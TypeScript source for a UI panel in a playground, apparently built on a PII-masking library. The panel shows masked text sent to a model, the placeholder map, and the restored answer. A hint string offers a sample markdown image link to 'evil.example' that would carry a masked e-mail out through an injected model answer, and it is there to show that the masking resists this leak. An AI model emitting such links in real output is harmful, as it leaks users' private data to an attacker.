import { openPlaceholders, type Decision, type Placeholders } from 'edgerail';
import { copyButton } from '../ui/controls.js';
import { debounce, el, fill, uniqueId } from '../ui/dom.js';
import { errorWords } from '../words/errors.js';

const CONVERSATION = 'playground';
/** Longer texts are for the program, not for a demonstration. */
const SHOWN = 20_000;

interface StoredMap {
  entries: { key: string; kind: 'value' | 'literal' | 'reserved'; text?: string }[];
}

/** Masks that can be taken back: what the model gets, the map that stays here, and its answer restored. */
export function reversiblePanel(changed: (answer: string) => void): {
  element: HTMLElement;
  show(decision: Decision, text: string, answer: string | null): void;
} {
  const note = el('p', { class: 'lead' });
  const sent = el('pre', { class: 'box', tabindex: '0', role: 'group', 'aria-label': 'What the model gets' });
  const rows = el('tbody', {});
  const map = el(
    'table',
    { class: 'map' },
    el('caption', { class: 'visually-hidden' }, 'Placeholders and what they stand for'),
    el('thead', {}, el('tr', {}, el('th', { scope: 'col' }, 'Placeholder'), el('th', { scope: 'col' }, 'stands for'))),
    rows,
  );
  const answerId = uniqueId('answer');
  const answerBox = el('textarea', { id: answerId, rows: 4, spellcheck: 'false' });
  const restored = el('pre', { class: 'box', tabindex: '0', role: 'group', 'aria-label': 'What the person reads' });
  const body = el(
    'div',
    { class: 'reversible' },
    el('section', {}, el('h3', {}, 'What the model gets'), sent),
    el('section', {}, el('h3', {}, 'The map, which stays in the page'), map),
    el('section', {}, el('h3', {}, el('label', { for: answerId }, 'What the model answers')), answerBox),
    el(
      'section',
      {},
      el('div', { class: 'bar flush' }, el('h3', {}, 'What the person reads'), copyButton('Copy', () => restored.textContent ?? '')),
      restored,
    ),
    el(
      'p',
      { class: 'muted small wide' },
      'Values are not put back inside addresses, link and image targets and HTML attributes: an injected image link must not carry them out. Try “![x](https://evil.example/?q={EMAIL_1})”.',
    ),
  );
  const element = el('div', { class: 'tab-panel padded' }, note, body);

  let placeholders: Placeholders | undefined;
  const restore = () => {
    restored.textContent = placeholders ? placeholders.restore(answerBox.value) : '';
  };
  const edited = debounce(() => changed(answerBox.value), 200);
  answerBox.addEventListener('input', () => {
    restore();
    edited();
  });

  let run = 0;
  const show = async (decision: Decision, text: string, answer: string | null) => {
    run += 1;
    const mine = run;
    if (decision.outcome === 'block' || text.length > SHOWN) {
      body.hidden = true;
      note.textContent =
        decision.outcome === 'block'
          ? 'This text is blocked, so nothing is sent. Remove what blocks, and what is masked gets numbered placeholders here.'
          : `The text has more than ${SHOWN.toLocaleString('en')} characters; this view is for shorter ones.`;
      return;
    }
    const fresh = await openPlaceholders(CONVERSATION);
    // A newer text came while this one waited.
    if (mine !== run) {
      fresh.free();
      return;
    }
    placeholders?.free();
    placeholders = fresh;
    const masked = fresh.mask(text, decision);
    const { entries } = JSON.parse(fresh.toJSON()) as StoredMap;
    const shown = entries.filter((entry) => entry.kind !== 'reserved');
    body.hidden = false;
    note.textContent =
      shown.length === 0
        ? 'Nothing is masked in this text. Add an e-mail address, for example.'
        : 'The same value has the same number throughout a conversation, so that the model can tell people apart without knowing them.';
    sent.textContent = masked;
    fill(
      rows,
      shown.map((entry) => el('tr', {}, el('td', { class: 'mono' }, `{${entry.key}}`), el('td', { class: 'mono' }, entry.text ?? ''))),
      shown.length === 0 && el('tr', {}, el('td', { colspan: 2, class: 'muted' }, 'empty')),
    );
    // Not while the person writes in it.
    if (document.activeElement !== answerBox) answerBox.value = answer ?? suggestion(shown.map((entry) => entry.key));
    restore();
  };

  return {
    element,
    show(decision, text, answer) {
      show(decision, text, answer).catch((error: unknown) => {
        body.hidden = true;
        note.textContent = errorWords(error);
      });
    },
  };
}

/** An answer to begin with, which uses what there is. */
function suggestion(keys: readonly string[]): string {
  const [first, second] = keys;
  if (first === undefined) return 'Thank you, I will look into it.';
  if (second === undefined) return `Thank you, I have noted {${first}}.`;
  return `Thank you, I have noted {${first}} and **{${second}}**.`;
}
